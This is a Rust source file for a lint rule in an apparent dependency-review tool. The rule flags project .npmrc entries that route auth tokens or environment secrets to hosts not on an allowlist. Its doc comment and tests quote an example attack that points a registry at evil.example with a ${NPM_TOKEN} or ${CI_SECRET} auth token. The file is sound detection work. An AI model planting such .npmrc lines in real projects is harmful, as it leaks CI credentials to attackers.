//! `registry/project-credentials`.

use crate::config::{ConfigWarningKind, NpmConfig};
use diligence_finding::{Finding, Severity};

diligence_finding::declare_rule! {
    /// The project `.npmrc` tried to steer credentials or secrets to a host the user has not allowlisted; refused.
    ///
    /// ## What it detects
    /// In the project's own `.npmrc` (which arrives with the code under review): a
    /// `//host/:_authToken`, `_auth`, `username`/`_password` for a host that is not on the
    /// user's credential allowlist (`--allow-project-credentials HOST`,
    /// `$DILIGENCE_ALLOW_PROJECT_CREDENTIALS`); a `${VAR}` in a value bound to such a host
    /// (or to no literal host); or `proxy`, `https-proxy`, `strict-ssl=false`, `ca`, `cafile`,
    /// after which credentials configured outside the project go to allowlisted hosts only.
    /// The credential is not sent and the variable is not read; the finding says so and names
    /// the key, line, host and variable, never a value.
    ///
    /// ## Why it matters
    /// A pull request that adds `//evil.example/:_authToken=${NPM_TOKEN}` and points a scope
    /// at `https://evil.example/` makes any tool that honours the project `.npmrc` send the CI
    /// secret to the attacker when it fetches packuments. npm itself does this on `npm ci`.
    ///
    /// ## Example
    /// `.npmrc` in the pull request:
    /// ```text
    /// @corp:registry=https://evil.example/
    /// //evil.example/:_authToken=${NPM_TOKEN}
    /// ```
    ///
    /// ## Known false positives
    /// A project that keeps its private registry's token reference in its own `.npmrc`
    /// (`//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}`): allowlist that host
    /// (`DILIGENCE_ALLOW_PROJECT_CREDENTIALS=npm.pkg.github.com` in CI) and the finding goes.
    pub static PROJECT_CREDENTIALS = { id: "registry/project-credentials", severity: Severity::Medium };
}

/// One finding per refusal in `config.warnings`, at the project `.npmrc` line. Evidence:
/// `{key, host, refused: "env"|"credential"|"transport", variables}`.
pub fn check(config: &NpmConfig) -> Vec<Finding> {
    config
        .warnings
        .iter()
        .map(|w| {
            let (refused, variables) = match &w.kind {
                ConfigWarningKind::EnvNotExpanded { variables } => ("env", variables.clone()),
                ConfigWarningKind::CredentialWithheld => ("credential", Vec::new()),
                ConfigWarningKind::TransportSetting => ("transport", Vec::new()),
            };
            Finding::new(&PROJECT_CREDENTIALS, w.message())
                .at(&w.file, w.line)
                .evidence(serde_json::json!({
                    "key": w.key,
                    "host": w.host,
                    "refused": refused,
                    "variables": variables,
                }))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::CredentialAllowlist;

    fn load(npmrc: &str, allow: &[&str]) -> NpmConfig {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join(".npmrc"), npmrc).unwrap();
        let env = vec![("CI_SECRET".to_string(), "s3cr3t-value".to_string())];
        let allowlist = CredentialAllowlist::new(allow.iter().copied()).unwrap();
        NpmConfig::load_with_allowlist(dir.path(), None, &env, &allowlist).unwrap()
    }

    #[test]
    fn flags_a_secret_aimed_at_a_host_not_allowlisted() {
        let c = load(
            "@corp:registry=https://evil.example/\n//evil.example/:_authToken=${CI_SECRET}\n",
            &[],
        );
        assert!(c.credentials.is_empty());
        let f = check(&c);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, "registry/project-credentials");
        assert_eq!(f[0].severity, Severity::Medium);
        assert_eq!(f[0].location.as_ref().unwrap().line, 2);
        assert_eq!(
            f[0].message,
            "`//evil.example/:_authToken` would send ${CI_SECRET} to evil.example, which is not in the credential allowlist: not expanded, key ignored (allow it with --allow-project-credentials evil.example or DILIGENCE_ALLOW_PROJECT_CREDENTIALS)"
        );
        assert_eq!(f[0].evidence["variables"][0], "CI_SECRET");
        assert!(!format!("{f:?}").contains("s3cr3t-value"));
    }

    #[test]
    fn allowlisted_hosts_and_plain_settings_are_clean() {
        let c = load(
            "registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=${CI_SECRET}\nstrict-ssl=true\n",
            &["npm.corp.example"],
        );
        assert_eq!(check(&c), vec![]);
        assert_eq!(
            c.credential_for("https://npm.corp.example/x")
                .unwrap()
                .header_value(),
            "Bearer s3cr3t-value"
        );
    }
}
